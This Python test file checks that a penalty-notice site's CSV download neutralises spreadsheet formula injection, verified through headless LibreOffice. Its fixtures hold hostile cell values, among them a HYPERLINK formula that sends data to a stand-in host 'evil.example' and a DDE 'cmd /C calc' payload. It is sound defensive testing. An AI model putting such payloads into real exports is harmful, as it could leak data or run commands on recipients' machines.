"""The CSV download opened in a real spreadsheet (LibreOffice Calc, headless) never runs a formula.

A party name, a decision number or a fact that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return is a formula to Excel and LibreOffice. The CSV is imported the way Excel reads it (formulas
evaluated: LibreOffice's CSV filter option 13) and saved as flat ODF, in which a formula cell carries a
`table:formula` attribute; no cell may have one, the hostile text must read as text, and the amounts
must still be numbers.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import lxml.etree
import pytest
from test_site_fixtures import add_notice, build_tiny_site, make_tiny_db

from models.record import Category, NoticeMeta, ParsedNotice, Party
from sitegen.core.csvsafe import FORMULA_STARTS, csv_safe_cell
from sitegen.pages.downloads import NAMES

HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看处罚详情")'
HOSTILE_TEXTS = {
    "party_name": HOSTILE_NAME,
    "decision_no": "=1+1",
    "facts": "+cmd|' /C calc'!A0",
    "basis": "-2+3",
    "decision": "@SUM(1,1)",
    "party_role": "\t=1+2",
    "institution": "\r=1+3",
}
NUMERIC = ("doc_id", "seq", "fine_yuan")
# field separator, text delimiter, UTF-8, first line, column formats, language, quoted field as text,
# detect special numbers, (export options 9-12), evaluate formulas: Excel evaluates them, so we do too.
CSV_FILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,0,true"
NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
      "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0"}


def soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        if os.environ.get("CI") == "true":  # CI installs it (.ci/run): its absence is a failure there
            pytest.fail("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed (apt-get install --no-install-recommends libreoffice-calc-nogui)")
    return found


def hostile_notice() -> tuple[NoticeMeta, ParsedNotice]:
    meta = NoticeMeta(doc_id=3001, title="某金融监管分局行政处罚信息公开表", published_at=datetime(2025, 6, 21, 9, 0),
                      issuer="浙江金融监管局", level="provincial", item_id=4293)
    party = Party(seq=1, party_kind="individual", authority="浙江金融监管局", decided_on=date(2025, 6, 18),
                  fine_yuan=50_000, province="浙江", categories=[Category("credit", "违规")], **HOSTILE_TEXTS)
    return meta, ParsedNotice(layout="horizontal", parse_status="ok", parties=[party])


def csv_rows(out: Path) -> list[list[str]]:
    with zipfile.ZipFile(out / "data" / "fadan-penalties.csv.zip") as zf:
        text = zf.read("fadan-penalties.csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_safe_cell_neutralises_every_formula_start() -> None:
    for start in FORMULA_STARTS:
        assert csv_safe_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_safe_cell("中国农业银行 -2") == "中国农业银行 -2"  # only the first character matters
    assert csv_safe_cell(900_000) == 900_000 and csv_safe_cell(None) is None  # numbers stay numbers


def test_no_text_cell_of_the_csv_starts_like_a_formula(tmp_path: Path) -> None:
    db = make_tiny_db(tmp_path / "tiny.db")
    add_notice(db, *hostile_notice())
    rows = csv_rows(build_tiny_site(tmp_path, db=db))
    header, body = rows[0], rows[1:]
    for row in body:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
    hostile = next(r for r in body if r[header.index("doc_id")] == "3001")
    for name, text in HOSTILE_TEXTS.items():
        assert hostile[header.index(name)] == "'" + text  # the text itself, kept whole
    assert hostile[header.index("fine_yuan")] == "50000"


@pytest.mark.timeout(180)
def test_libreoffice_opens_the_csv_without_a_single_formula(tmp_path: Path) -> None:
    office = soffice()
    db = make_tiny_db(tmp_path / "tiny.db")
    add_notice(db, *hostile_notice())
    out = build_tiny_site(tmp_path, db=db)
    with zipfile.ZipFile(out / "data" / "fadan-penalties.csv.zip") as zf:
        zf.extract("fadan-penalties.csv", tmp_path)
    converted = subprocess.run(
        [office, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
         f"--infilter={CSV_FILTER}", "--convert-to", "fods", "--outdir", str(tmp_path / "sheet"),
         str(tmp_path / "fadan-penalties.csv")],
        capture_output=True, text=True, timeout=150, check=False)
    sheet = tmp_path / "sheet" / "fadan-penalties.fods"
    assert sheet.is_file(), converted.stdout + converted.stderr

    rows = []
    for row in lxml.etree.parse(str(sheet)).iterfind(".//table:table-row", NS):
        cells = []
        for cell in row.iterfind("table:table-cell", NS):
            assert cell.get(f"{{{NS['table']}}}formula") is None, lxml.etree.tostring(cell, encoding="unicode")
            repeat = int(cell.get(f"{{{NS['table']}}}number-columns-repeated") or 1)
            value = ("".join(cell.itertext()).strip(), cell.get(f"{{{NS['office']}}}value-type"))
            cells.extend([value] * min(repeat, len(NAMES)))
        rows.append(cells[: len(NAMES)])
    header = [text for text, _ in rows[0]]
    assert header == NAMES
    hostile = next(r for r in rows[1:] if r[header.index("doc_id")][0] == "3001")
    shown = hostile[header.index("party_name")]
    assert shown[1] == "string" and HOSTILE_NAME in shown[0]  # the name as text, not a link
    for name in NUMERIC:  # the amounts and ids are still numbers a spreadsheet can sum
        assert hostile[header.index(name)][1] == "float", name
    assert hostile[header.index("fine_yuan")][0] == "50000"
